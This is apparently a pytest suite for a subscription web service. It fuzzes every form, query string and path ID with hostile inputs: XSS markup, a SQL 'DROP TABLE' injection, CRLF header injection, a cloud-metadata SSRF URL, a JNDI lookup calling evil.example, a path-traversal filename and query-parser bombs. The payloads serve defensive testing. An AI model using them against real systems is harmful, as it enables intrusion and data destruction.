"""Bad input for every form: the answer is an error with a message or a saved form, never an error of the server."""

import re
import time
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from httpx2 import Response
from starlette.testclient import TestClient

import services.web
from services.domain.query.parser import parse
from services.errors import QueryError
from tests.attack.access import SIGNS_OUT, VALID, Access, Route, address_of, routes_of, rows_of_ada
from tests.web.conftest import BASE, Browser, Site, text_of

MAX_SECONDS = 5.0
"""For one request, on a busy machine. Usual are some milliseconds."""
FORM = "application/x-www-form-urlencoded"
MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}"
RENDERED = ("<script>alert(1)", "<img src=x")


def field_names() -> list[str]:
    """The name of every field that a page reads."""
    source = "".join(path.read_text() for path in Path(services.web.__file__).parent.rglob("*.py"))
    return sorted({*re.findall(r'form\.(?:text|all|id|number)\("(\w+)"', source)} - {"token"})


FIELDS = field_names()
VALUES = {
    "nothing": "",
    "nul": "a\0b",
    "markup": MARKUP,
    "long": "x" * (95_000 // len(FIELDS)),
    "a word": "abc",
    "negative": "-1",
    "superscript": "²",
    "above bigint": "9223372036854775808",
    "far above bigint": "9" * 400,
    "header": "x\r\nSet-Cookie: a=b\r\nBcc: eve@example.org",
    "early date": "0001-01-01",
    "address": "http://169.254.169.254/latest/meta-data/",
    "format": "%s%n{0.__class__}${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE account; --",
}


@pytest.fixture
def adas(site: Site) -> dict[str, str]:
    return rows_of_ada(site)


@pytest.fixture
def forms(site: Site) -> list[Route]:
    """Every form but those that end the session of the test."""
    kinds = (Access.PUBLIC, Access.SIGNED_IN, Access.OWNER, Access.OPERATOR)
    return [route for route in routes_of(site, *kinds) if route[0] == "POST" and route not in SIGNS_OUT]


@pytest.fixture
def ada(site: Site) -> Browser:
    """A browser that gets the page of an error as people do."""
    browser = site.browser(site.ada)
    client = TestClient(site.app, base_url=BASE, follow_redirects=False, raise_server_exceptions=False)
    client.cookies.update(browser.client.cookies)
    browser.client = client
    return browser


class Timed:
    def __init__(self, browser: Browser) -> None:
        self.browser = browser

    def post(self, address: str, body: bytes, content_type: str | None = FORM, **headers: str) -> Response:
        kind = {"Content-Type": content_type} if content_type is not None else {}
        began = time.monotonic()
        answer = self.browser.client.post(address, content=body, headers={"Origin": BASE, **kind, **headers})
        assert time.monotonic() - began < MAX_SECONDS, address
        return answer


def is_handled(answer: Response) -> bool:
    """A page, a redirect, or an error that says what to do."""
    if answer.status_code < 400:
        return True
    is_other_page = answer.status_code != 404 and "page does not exist" in answer.text
    return answer.status_code < 500 and len(text_of(answer)) > 20 and not is_other_page


def test_a_bad_value_in_every_field_is_no_error_of_the_server(
    ada: Browser, adas: dict[str, str], forms: list[Route]
) -> None:
    for kind, value in VALUES.items():
        body = urlencode({"token": ada.token, **dict.fromkeys(FIELDS, value)}).encode()
        for route in forms:
            answer = Timed(ada).post(address_of(route, adas), body)
            assert is_handled(answer), (route, kind, answer.status_code)
            assert not any(tag in answer.text for tag in RENDERED), (route, kind)
            assert "a=b" not in answer.headers.get("set-cookie", "")


ONE_BY_ONE = ("markup", "superscript", "above bigint", "early date")
"""Values that one field alone gets, so that the check of another field does not come first."""
FORMS = {
    "/subscriptions/preview": (
        "name",
        "query",
        "interest",
        "liked",
        "volume_count",
        "min_upvotes",
        "sources",
        "editing",
        "limit",
        "wide",
        "do",
        "days",
        "shown",
        "tab",
        "seen",
        "began",
    ),
    "/subscriptions/try": ("query", "liked", "shown", "began", "editing"),
    "/subscriptions/new": ("query", "volume_count", "limit"),
    "/subscriptions": (
        "name",
        "for_whom",
        "query",
        "interest",
        "disliked",
        "volume_per",
        "cadence",
        "channels",
        "trending",
    ),
    "/silences": ("query", "subscription", "until", "everything"),
    "/account": ("email", "timezone", "quiet_from", "quiet_to"),
    "/channels": ("kind", "target", "at", "weekday"),
    "/signin/mail": ("email",),
    "/members/invite": ("email",),
    "/sources": ("kind", "location", "minutes"),
}


def test_a_bad_value_in_one_field_is_no_error_of_the_server(ada: Browser, adas: dict[str, str]) -> None:
    valid = {**VALID, "email": "ada@example.org", "target": "https://example.org/hook", "quiet_from": "", "liked": ""}
    for path, fields in FORMS.items():
        for name in fields:
            for kind in ONE_BY_ONE:
                value = {name: VALUES[kind], **({"quiet_to": "07:00"} if name == "quiet_from" else {})}
                answer = Timed(ada).post(path, urlencode({"token": ada.token, **valid, **value}).encode())
                assert is_handled(answer), (path, name, kind, answer.status_code)
                assert not any(tag in answer.text for tag in RENDERED), (path, name, kind)


def multipart(fields: dict[str, str], disposition: str = "form-data") -> bytes:
    parts = [
        f'--b\r\nContent-Disposition: {disposition}; name="{key}"\r\n\r\n{value}\r\n' for key, value in fields.items()
    ]
    return "".join(parts).encode("utf-8", "surrogatepass") + b"--b--\r\n"


UPLOAD = (
    b'--b\r\nContent-Disposition: form-data; name="query"; filename="../../x"\r\nContent-Type: text/html\r\n\r\n'
    b"<b>\r\n--b--\r\n"
)


def bodies(token: str) -> dict[str, tuple[bytes, str | None]]:
    """Bodies that are no usual form, with their content type."""
    fields = {"token": token, "query": "x", "name": "x"}
    usual = urlencode(fields).encode()
    multi = "multipart/form-data; boundary=b"
    file = multipart({"token": token}).removesuffix(b"--b--\r\n") + UPLOAD
    return {
        "10,000 fields": (usual + b"&a=1" * 10_000, FORM),
        "10,000 values of a field": (usual + b"&sources=arxiv" * 6_000, FORM),
        "10,000 channels": (usual + b"".join(b"&channels=%d" % number for number in range(5_000)), FORM),
        "10,000 parts": (b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' * 1_500 + b"--b--\r\n", multi),
        "only separators": (b"&" * 90_000, FORM),
        "only equal signs": (b"=" * 90_000, FORM),
        "bytes that are no text": (usual + b"&name=\xff\xfe\x00\x80&query=%FF%FE%ED%A0%80", FORM),
        "broken escapes": (usual + b"&name=%&query=%G1%u0041%", FORM),
        "json": (b'{"token": "x", "query": ["x"]}', "application/json"),
        "deep json": (b"[" * 90_000, "application/json"),
        "text": (usual, "text/plain"),
        "no content type": (usual, None),
        "an empty content type": (usual, ""),
        "an unknown charset": (usual, f"{FORM}; charset=klingon"),
        "multipart": (multipart(fields), multi),
        "multipart as urlencoded": (multipart(fields), FORM),
        "urlencoded as multipart": (usual, multi),
        "multipart without boundary": (multipart(fields), "multipart/form-data"),
        "multipart with an empty boundary": (multipart(fields), "multipart/form-data; boundary="),
        "multipart with a long boundary": (multipart(fields), "multipart/form-data; boundary=" + "b" * 5_000),
        "multipart with a boundary of another charset": (multipart(fields), "multipart/form-data; boundary=%C3%A9"),
        "multipart cut off": (multipart(fields)[:-20], multi),
        "multipart without names": (b"--b\r\n\r\nx\r\n--b--\r\n", multi),
        "multipart of another disposition": (multipart(fields, "attachment"), multi),
        "multipart with many headers": (b"--b\r\n" + b"X: y\r\n" * 10_000 + b"\r\nx\r\n--b--\r\n", multi),
        "multipart with a file": (file, multi),
        "multipart in an unknown charset": (multipart(fields), f"{multi}; charset=klingon"),
        "multipart in a codec that is no charset": (multipart(fields), f"{multi}; charset=hex"),
        "multipart in idna": (multipart({**fields, "name": "x" * 100 + "."}), f"{multi}; charset=idna"),
        "multipart in utf-7": (multipart({**fields, "name": "+2AA-"}), f"{multi}; charset=utf-7"),
        "multipart in utf-16": (multipart(fields), f"{multi}; charset=utf-16"),
        "multipart in ascii": (multipart({**fields, "name": "\u00e9"}), f"{multi}; charset=ascii"),
        "multipart with a lone surrogate": (multipart({**fields, "name": "\ud800"}), multi),
        "multipart with a charset of NUL": (multipart(fields), f'{multi}; charset="\\0"'),
        "huge": (usual + b"&name=" + b"x" * 5_000_000, FORM),
    }


def test_a_body_that_is_no_usual_form_is_no_error_of_the_server(
    ada: Browser, adas: dict[str, str], forms: list[Route]
) -> None:
    for kind, (body, content_type) in bodies(ada.token).items():
        # All forms read a body in one way; a form that reads it in its own way fails with a few of them.
        for route in forms if kind in OFTEN else forms[:1]:
            answer = Timed(ada).post(address_of(route, adas), body, content_type)
            assert is_handled(answer), (route, kind, answer.status_code)


OFTEN = ("bytes that are no text", "json", "multipart with a file", "multipart in an unknown charset", "huge")
MARKED = "<b>&amp;\"'<img src=x>"
SAVED_ON = (
    "/subscriptions",
    "/matches",
    "/channels",
    "/silences",
    "/deliveries",
    "/sources",
    "/subscriptions/{subscription_id}",
)


def test_markup_that_was_saved_is_text_on_every_page(site: Site, ada: Browser, adas: dict[str, str]) -> None:
    subscription = adas["subscription_id"]
    saved = ada.post(
        f"/subscriptions/{subscription}", {**VALID, "name": MARKED, "for_whom": MARKED, "query": f'"{MARKUP}"'}
    )
    assert saved.status_code in (303, 422)
    site.subscription(site.ada, int(adas["channel_id"]), name=MARKED, interest="robots <img src=x>", query="")
    paper = site.paper(MARKED, 2, abstract=MARKUP, authors=(MARKED,))
    site.match(site.ada, int(subscription), paper, MARKUP)
    site.sql(f"UPDATE delivery SET subject = $${MARKED}$$, error = $${MARKED}$$, notes = ARRAY[$${MARKED}$$]")
    site.sql(f"UPDATE source SET error = $${MARKED}$$")
    site.sql(f"UPDATE channel SET label = $${MARKED}$$")
    for path in (
        *SAVED_ON,
        "/papers/2",
        "/deliveries/1",
        "/sources/1",
        "/channels/1/remove",
        f"/subscriptions/{subscription}/delete",
    ):
        answer = ada.get(path.format(**adas))
        assert answer.status_code == 200, path
        assert not any(tag in answer.text for tag in RENDERED), path


BOMBS = {
    "parentheses": "(" * 5_000 + "a" + ")" * 5_000,
    "open parentheses": "(" * 5_000,
    "alternatives": " OR ".join(["a"] * 10_000),
    "negations": "-" * 5_000 + "a",
    "words for not": "NOT " * 5_000 + "a",
    "a long wildcard": "a" * 5_000 + "*",
    "many wildcards": "*a" * 2_500,
    "short wildcards": "a* " * 160,
    "quotation marks": '"' * 4_999,
    "fields": "title:" * 2_000 + "a",
    "nested nearness": "a NEAR/9 " * 2_000 + "a",
    "a huge distance": "a NEAR/99999999999999999999 b",
    "combining characters": "a" + "\u0301" * 5_000,
    "a ligature that grows": "\ufdfa" * 480,
    "just below the limit": "(" * 9 + " OR ".join(["ab*"] * 60) + ")" * 9,
}


def test_a_query_that_is_a_bomb_gets_an_answer_in_time(ada: Browser) -> None:
    for name, query in BOMBS.items():
        for path in ("/subscriptions/preview", "/subscriptions", "/silences"):
            body = urlencode({"token": ada.token, "query": query, "cadence": "daily", "until": "2999-01-01"}).encode()
            answer = Timed(ada).post(path, body)
            assert is_handled(answer), (name, path, answer.status_code)
        began = time.monotonic()
        with suppress(QueryError):
            parse(query)
        assert time.monotonic() - began < 1, name


ODD_PARAMETERS = ("x", "9" * 30, "\0\ud800", "<img src=x>\r\nSet-Cookie: a=b")


def test_an_odd_query_string_is_no_error_of_the_server(site: Site, ada: Browser, adas: dict[str, str]) -> None:
    names = ("before", "subscription", "flash", "show", "name", "next", "key")
    for route in routes_of(site):
        if route[0] == "GET" and route != ("GET", "/metrics"):
            for value in ODD_PARAMETERS:
                query = "&".join(f"{name}={quote(value, errors='surrogatepass')}" for name in names)
                answer = ada.get(f"{address_of(route, adas)}?{query}")
                assert answer.status_code < 500, (route, value[:20])
                assert not any(tag in answer.text for tag in RENDERED), route
                assert "a=b" not in answer.headers.get("set-cookie", "")


ODD_IDS = ("0", "9223372036854775808", "%00", "%ED%A0%80", "1%2F2", "%3Cimg%20src=x%3E" * 99)


def test_an_odd_id_in_a_path_is_not_found(site: Site, ada: Browser, adas: dict[str, str]) -> None:
    for route in routes_of(site):
        if "{" in route[1]:
            for odd in ODD_IDS:
                address = re.sub(r"{[^}]*}", odd, route[1])
                answer = ada.get(address) if route[0] == "GET" else ada.post(address, VALID)
                assert answer.status_code in (404, 405), (route, odd[:20], answer.status_code)
                assert not any(tag in answer.text for tag in RENDERED), route
